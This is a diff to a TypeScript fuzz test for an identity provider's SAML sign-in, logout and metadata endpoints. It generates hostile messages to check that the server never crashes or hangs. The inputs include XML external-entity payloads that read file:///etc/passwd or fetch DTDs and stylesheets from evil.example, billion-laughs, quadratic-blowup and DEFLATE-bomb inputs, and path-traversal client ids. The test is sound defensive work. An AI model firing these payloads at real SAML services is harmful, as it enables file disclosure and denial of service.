@@ -1,8 +1,9 @@
 /**
- * SAML messages at /samlp/{client_id} and its logout (#12): AuthnRequests and LogoutRequests that are
- * malformed, truncated, deeply nested, oversized, in other encodings, with DTDs and entities (billion laughs,
- * external entities), in either binding (DEFLATE + base64 in the query, base64 in a form body) or as garbage
- * that is neither. Every answer is a page, a redirect to the login page or the error page: never a 5xx, and the
+ * SAML messages at /samlp/{client_id}, its logout and its metadata (#12): AuthnRequests, LogoutRequests and
+ * LogoutResponses that are malformed, truncated, deeply nested, oversized or DEFLATE bombs, in other or broken
+ * encodings (UTF-16, BOMs, Latin-1, cut UTF-8), with DTDs and entities (billion laughs, quadratic blowup, external
+ * and parameter entities), repeated, for hostile client ids, in either binding (DEFLATE + base64 in the query,
+ * base64 in a form body) or as garbage that is neither. Every answer is a page, a redirect to the login page or the error page: never a 5xx, and the
  * campaign's time limit catches a hang.
  */
 import { deflateRawSync } from 'node:zlib';
@@ -14,11 +15,18 @@ import { runRequest } from './openapi-operations.js';
 const ACS = 'https://sp.example/acs';
 
 interface SamlInput {
-  endpoint: 'sso' | 'logout';
+  endpoint: 'sso' | 'logout' | 'metadata';
   binding: 'redirect' | 'post' | 'garbage';
+  /** SAMLResponse: a LogoutResponse, as a service provider answers our LogoutRequest. */
+  parameter: 'SAMLRequest' | 'SAMLResponse';
   xml: string;
-  encoding: 'utf8' | 'utf16le' | 'latin1';
+  /** Bytes on the wire: UTF-8 (with or without a BOM), UTF-16 with a BOM, Latin-1, or UTF-8 cut inside a character. */
+  encoding: 'utf8' | 'utf8-bom' | 'utf16le' | 'utf16le-bom' | 'latin1' | 'broken-utf8';
   relayState?: string;
+  /** The message parameter sent twice (a repeated parameter is refused, never merged). */
+  repeated: boolean;
+  /** A hostile client_id in the path instead of the application's. */
+  clientId?: string;
 }
 
 const clients = new Map<string, Promise<string>>();
@@ -59,7 +67,18 @@ const laughs = fc
     const entities = Array.from({ length: levels }, (_, i) => (i === 0 ? '<!ENTITY l0 "lol">' : `<!ENTITY l${i} "${`&l${i - 1};`.repeat(10)}">`)).join('');
     return `<?xml version="1.0"?><!DOCTYPE r [${entities}]><r>&l${levels - 1};</r>`;
   });
+const logoutResponse = fc
+  .record({ inResponseTo: attribute, status: fc.constantFrom('Success', 'Requester', 'PartialLogout', '') })
+  .map((r) => `<samlp:LogoutResponse xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_r" Version="2.0" IssueInstant="${new Date().toISOString()}" InResponseTo="${r.inResponseTo.replace(/"/g, '')}"><samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:${r.status}"/></samlp:Status></samlp:LogoutResponse>`);
+/** Small when compressed, megabytes when inflated: inflation must stop at the size bound. */
+const deflateBomb = fc.integer({ min: 1, max: 8 }).map((megabytes) => `<r>${'a'.repeat(megabytes * 1024 * 1024)}</r>`);
+/** One large entity referenced many times (quadratic blowup), and parameter entities. */
+const quadratic = fc.integer({ min: 100, max: 2_000 }).map((n) => `<!DOCTYPE r [<!ENTITY a "${'a'.repeat(10_000)}">]><r>${'&a;'.repeat(n)}</r>`);
+const parameterEntities = fc.constant('<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]><r/>');
 const hostileXml = fc.oneof(
+  deflateBomb,
+  quadratic,
+  parameterEntities,
   laughs,
   fc.constant('<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'),
   fc.constant('<?xml version="1.0"?><?xml-stylesheet href="http://evil.example/x.xsl"?><r/>'),
@@ -71,15 +90,32 @@ const hostileXml = fc.oneof(
 );
 
 const input: fc.Arbitrary<SamlInput> = fc.record({
-  endpoint: fc.constantFrom<SamlInput['endpoint']>('sso', 'sso', 'logout'),
+  endpoint: fc.constantFrom<SamlInput['endpoint']>('sso', 'sso', 'logout', 'logout', 'metadata'),
   binding: fc.constantFrom<SamlInput['binding']>('redirect', 'post', 'garbage'),
-  xml: fc.oneof({ weight: 2, arbitrary: authnRequest }, { weight: 1, arbitrary: logoutRequest }, { weight: 3, arbitrary: hostileXml }),
-  encoding: fc.constantFrom<SamlInput['encoding']>('utf8', 'utf8', 'utf16le', 'latin1'),
-  relayState: fc.option(hostileText, { nil: undefined }),
+  parameter: fc.constantFrom<SamlInput['parameter']>('SAMLRequest', 'SAMLRequest', 'SAMLResponse'),
+  xml: fc.oneof({ weight: 2, arbitrary: authnRequest }, { weight: 1, arbitrary: logoutRequest }, { weight: 1, arbitrary: logoutResponse }, { weight: 3, arbitrary: hostileXml }),
+  encoding: fc.constantFrom<SamlInput['encoding']>('utf8', 'utf8', 'utf8-bom', 'utf16le', 'utf16le-bom', 'latin1', 'broken-utf8'),
+  // Our own RelayState shape (40 hex digits) too: a logout in progress that does not exist.
+  relayState: fc.option(fc.oneof(hostileText, fc.uint8Array({ minLength: 20, maxLength: 20 }).map((b) => Buffer.from(b).toString('hex'))), { nil: undefined }),
+  repeated: fc.boolean(),
+  clientId: fc.option(fc.oneof(hostileText, fc.constantFrom('nope', '..%2f..', 'a'.repeat(300))), { nil: undefined }),
 });
 
+function bytesOf(inputs: SamlInput): Buffer {
+  switch (inputs.encoding) {
+    case 'utf8-bom':
+      return Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(inputs.xml, 'utf8')]);
+    case 'utf16le-bom':
+      return Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(inputs.xml, 'utf16le')]);
+    case 'broken-utf8':
+      return Buffer.concat([Buffer.from(inputs.xml.slice(0, 40), 'utf8'), Buffer.from([0xe2, 0x82]), Buffer.from(inputs.xml.slice(40), 'utf8'), Buffer.from([0xc0, 0xaf, 0xff])]);
+    default:
+      return Buffer.from(inputs.xml, inputs.encoding);
+  }
+}
+
 function encoded(inputs: SamlInput): string {
-  const bytes = Buffer.from(inputs.xml, inputs.encoding);
+  const bytes = bytesOf(inputs);
   if (inputs.binding === 'redirect') return deflateRawSync(bytes).toString('base64');
   if (inputs.binding === 'post') return bytes.toString('base64');
   return inputs.xml; // neither base64 nor DEFLATE
@@ -87,14 +123,17 @@ function encoded(inputs: SamlInput): string {
 
 export const saml: Family<SamlInput> = {
   name: 'saml',
-  summary: 'SAML messages at /samlp/{client_id} and its logout: malformed, truncated, nested, oversized, other encodings, DTDs and entities (billion laughs, XXE), both bindings and garbage',
+  summary:
+    'SAML messages at /samlp/{client_id}, its logout (requests and responses) and metadata: malformed, truncated, nested, oversized, DEFLATE bombs, other or broken encodings, DTDs and entities (billion laughs, quadratic blowup, XXE, parameter entities), repeated parameters, hostile client ids, both bindings and garbage',
   arbitrary: () => input,
   run: async (context, inputs) => {
-    const clientId = await samlClient(context);
-    const path = `/samlp/${clientId}${inputs.endpoint === 'logout' ? '/logout' : ''}`;
-    const params = new URLSearchParams({ SAMLRequest: encoded(inputs), ...(inputs.relayState !== undefined && { RelayState: inputs.relayState }) });
+    const clientId = inputs.clientId !== undefined ? encodeURIComponent(inputs.clientId) : await samlClient(context);
+    const path = inputs.endpoint === 'metadata' ? `/samlp/metadata/${clientId}` : `/samlp/${clientId}${inputs.endpoint === 'logout' ? '/logout' : ''}`;
+    const message = encoded(inputs);
+    const params = new URLSearchParams({ [inputs.parameter]: message, ...(inputs.relayState !== undefined && { RelayState: inputs.relayState }) });
+    if (inputs.repeated) params.append(inputs.parameter, message);
     const request: FuzzRequest =
-      inputs.binding === 'post'
+      inputs.binding === 'post' && inputs.endpoint !== 'metadata'
         ? { method: 'POST', url: path, headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: params.toString() }
         : { method: 'GET', url: `${path}?${params}` };
     return runRequest(context, request);
